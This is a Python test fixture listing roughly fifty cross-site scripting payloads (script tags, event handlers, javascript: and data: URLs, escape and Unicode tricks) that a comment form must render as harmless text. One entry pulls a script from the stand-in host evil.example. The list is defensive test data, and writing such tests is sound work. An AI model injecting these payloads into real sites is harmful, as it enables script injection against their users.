"""HTML and script injection attempts a comment form must turn into harmless text.

Each one, if it ever ran, would call `xss()` (or alert/confirm/prompt), which the
browser test watches for.
"""

XSS_PAYLOADS = [
    # Script elements
    "<script>xss()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>/*</script><script>*/xss()</script>",
    '"><script>xss()</script>',
    "</textarea><script>xss()</script>",
    "</p></div></li></ol><script>xss()</script>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    # Event handlers
    "<img src=x onerror=xss()>",
    '<img src="x" onerror="xss()">',
    "<svg onload=xss()>",
    "<svg><script>xss()</script></svg>",
    "<body onload=xss()>",
    '<div onmouseover="xss()" style="position:fixed;inset:0">hover</div>',
    "<input autofocus onfocus=xss()>",
    "<details open ontoggle=xss()>",
    "<video><source onerror=xss()></video>",
    "<marquee onstart=xss()>",
    '<a href="#" onclick="xss()">click</a>',
    # javascript: and data: URLs
    "javascript:xss()",
    '<a href="javascript:xss()">link</a>',
    "<a href=jAvAsCrIpT:xss()>link</a>",
    "<a href='&#106;avascript:xss()'>entity</a>",
    '<iframe src="javascript:xss()"></iframe>',
    '<iframe srcdoc="<script>parent.xss()</script>"></iframe>',
    '<object data="data:text/html,<script>xss()</script>"></object>',
    "<a href=data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==>data</a>",
    '<form action="javascript:xss()"><button>go</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:xss()">',
    # Broken and nested markup
    "<img src=x onerror=xss()//",
    "<<img src=x onerror=xss()>>",
    "<!--<img src=x onerror=xss()>-->",
    "<![CDATA[<img src=x onerror=xss()>]]>",
    '<style>@import "javascript:xss()";</style>',
    "<math><mtext><table><mglyph><style><img src=x onerror=xss()>",
    '<noscript><p title="</noscript><img src=x onerror=xss()>">',
    "<template><script>xss()</script></template>",
    # Attribute and URL escapes
    'https://example.org/"onmouseover="xss()',
    "https://example.org/<script>xss()</script>",
    "http://example.org/?q=<img src=x onerror=xss()>",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;script&#62;xss()&#60;/script&#62;",
    # Unicode tricks
    '＜script＞xss("fullwidth")＜/script＞',
    "\u202egnp.exe<script>xss()</script>",
    "<scr\u200bipt>xss()</scr\u200bipt>",
    "\ufeff<img src=x onerror=xss()>",
    "<IMG SRC=x OnErRoR\t=xss()>",
    "line\u2028<script>xss()</script>\u2029separator",
    "%3Cscript%3Exss()%3C/script%3E",
]
